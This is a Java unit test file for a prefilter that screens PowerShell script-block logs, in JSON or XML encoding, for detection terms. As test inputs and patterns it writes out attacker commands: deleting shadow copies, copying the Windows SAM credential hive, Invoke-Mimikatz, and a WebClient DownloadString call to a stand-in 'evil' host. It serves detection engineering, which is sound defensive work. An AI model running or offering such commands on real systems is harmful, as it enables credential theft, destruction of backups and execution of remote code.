package dev.escu.pssession.detection;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

import org.junit.jupiter.api.Test;

import dev.escu.pssession.detection.MatchPrefilter.Terms;

/** Formulas per detection: AND needs all, OR any, NOT nothing; terms survive the body's encoding; no cap on terms. */
class MatchPrefilterTermsTest {

    private static final byte[] JSON = {'\\', 'u'};
    private static final byte[] XML = {'&', '#'};

    private static boolean mayMatch(MatchPrefilter prefilter, String raw, byte[] marker) {
        byte[] bytes = raw.getBytes(StandardCharsets.UTF_8);
        return prefilter.mayMatch(bytes, 0, bytes.length, marker);
    }

    @Test
    void orNeedsAnyAlternative() {
        MatchPrefilter prefilter = MatchPrefilter.of(List.of(Terms.allOf(List.of(Terms.literal("ShadowCopy"),
                Terms.anyOf(List.of(Terms.literal("Delete"), Terms.literal("Remove")))))));
        assertThat(mayMatch(prefilter, "Get-WmiObject Win32_ShadowCopy | Remove-WmiObject", JSON)).isTrue();
        assertThat(mayMatch(prefilter, "Get-WmiObject Win32_ShadowCopy", JSON)).isFalse();
        assertThat(mayMatch(prefilter, "Remove-Item x", JSON)).isFalse();
    }

    @Test
    void notNeedsNothing() {
        MatchPrefilter prefilter = MatchPrefilter.of(List.of(Terms.allOf(List.of(Terms.literal("Cryptography"), Terms.ANY_EVENT))));
        assertThat(mayMatch(prefilter, "System.Security.Cryptography.MD5", JSON)).isTrue();
        assertThat(mayMatch(prefilter, "nothing", JSON)).isFalse();
        assertThat(MatchPrefilter.of(List.of(Terms.ANY_EVENT)).mayMatch(new byte[0], 0, 0, JSON)).isTrue();
    }

    @Test
    void cutsTermsAtBytesTheEncodingMayEscape() {
        MatchPrefilter prefilter = MatchPrefilter.of(List.of(Terms.literal("System32\\config\\SAM")));
        assertThat(mayMatch(prefilter, "{\"ScriptBlockText\":\"copy C:\\\\Windows\\\\System32\\\\config\\\\SAM x\"}", JSON)).isTrue();
        assertThat(mayMatch(prefilter, "<Data>copy System32\\config\\SAM</Data>", XML)).isTrue();
        assertThat(mayMatch(prefilter, "{\"ScriptBlockText\":\"copy System32 SAM\"}", JSON)).isFalse();

        MatchPrefilter quoted = MatchPrefilter.of(List.of(Terms.literal("DownloadString(\"http://")));
        assertThat(mayMatch(quoted, "{\"t\":\"(New-Object Net.WebClient).DownloadString(\\\"http:\\/\\/evil\\\")\"}", JSON)).isTrue();
        assertThat(mayMatch(quoted, "<Data>.DownloadString(&quot;http://evil&quot;)</Data>", XML)).isTrue();

        MatchPrefilter angle = MatchPrefilter.of(List.of(Terms.literal("<script>")));
        assertThat(mayMatch(angle, "<Data>&lt;script&gt;</Data>", XML)).isTrue();
    }

    @Test
    void piecesShorterThanTwoBytesCountAsPresent() {
        assertThat(MatchPrefilter.encodingSafePieces("a\\b\"c")).isEmpty();
        MatchPrefilter prefilter = MatchPrefilter.of(List.of(Terms.literal("x"), Terms.literal("Invoke-Mimikatz")));
        assertThat(mayMatch(prefilter, "anything at all", JSON)).isTrue();
    }

    @Test
    void readsInFullWhatAnEscapeCouldSpell() {
        MatchPrefilter prefilter = MatchPrefilter.of(List.of(Terms.literal("Invoke-Mimikatz")));
        assertThat(mayMatch(prefilter, "{\"t\":\"\\u0049nvoke-Mimikatz\"}", JSON)).isTrue();
        assertThat(mayMatch(prefilter, "<Data>&#x49;nvoke-Mimikatz</Data>", XML)).isTrue();
    }

    @Test
    void hasNoCapOnTerms() {
        List<Terms> detections = new ArrayList<>();
        for (int d = 0; d < 300; d++) {
            detections.add(Terms.allOf(List.of(Terms.literal("Cmdlet-" + d + "-Verb"), Terms.literal("-Param" + d))));
        }
        MatchPrefilter prefilter = MatchPrefilter.of(detections);
        assertThat(prefilter.scansWithAutomaton()).isTrue();
        assertThat(mayMatch(prefilter, "x cmdlet-257-verb y -PARAM257 z", JSON)).isTrue();
        assertThat(mayMatch(prefilter, "x cmdlet-257-verb y -PARAM258 z", JSON)).isFalse();
        assertThat(mayMatch(prefilter, "x Cmdlet-3-Verb \\u0020", JSON)).isTrue();
        assertThat(mayMatch(prefilter, "x Cmdlet-3-Verb &#32;", XML)).isTrue();
        assertThat(mayMatch(prefilter, "x Cmdlet-3-Verb &#32;", JSON)).isFalse();
        assertThat(mayMatch(prefilter, "x Cmdlet-3-Verb C:\\\\Users", JSON)).as("\\U is no JSON escape").isFalse();
    }

    @Test
    void bothScannersAgreeOnRandomTexts() {
        String[] words = {"Enter-PSSession", "-ComputerName", "Invoke-Command", "-ScriptBlock", "IEX", "iex", "Net.WebClient",
                "DownloadString", " ", "\r\n", "x", "-", "é", "\\u00", "&#", "Enter", "Command"};
        List<Terms> few = List.of(Terms.allOf(List.of(Terms.literal("Enter-PSSession"), Terms.literal("-ComputerName"))),
                Terms.allOf(List.of(Terms.literal("Invoke-Command"), Terms.literal("-ScriptBlock"))));
        List<Terms> many = new ArrayList<>(few);
        for (int d = 0; d < 40; d++) {
            many.add(Terms.literal("Unrelated" + d + "Term"));
        }
        MatchPrefilter small = MatchPrefilter.of(few);
        MatchPrefilter large = MatchPrefilter.of(many);
        assertThat(small.scansWithAutomaton()).isFalse();
        assertThat(large.scansWithAutomaton()).isTrue();
        java.util.Random random = new java.util.Random(4104);
        for (int i = 0; i < 20_000; i++) {
            StringBuilder text = new StringBuilder();
            for (int w = random.nextInt(8); w >= 0; w--) {
                text.append(words[random.nextInt(words.length)]);
            }
            for (byte[] marker : List.of(JSON, XML)) {
                assertThat(mayMatch(large, text.toString(), marker)).as(text.toString()).isEqualTo(mayMatch(small, text.toString(), marker));
            }
        }
    }
}
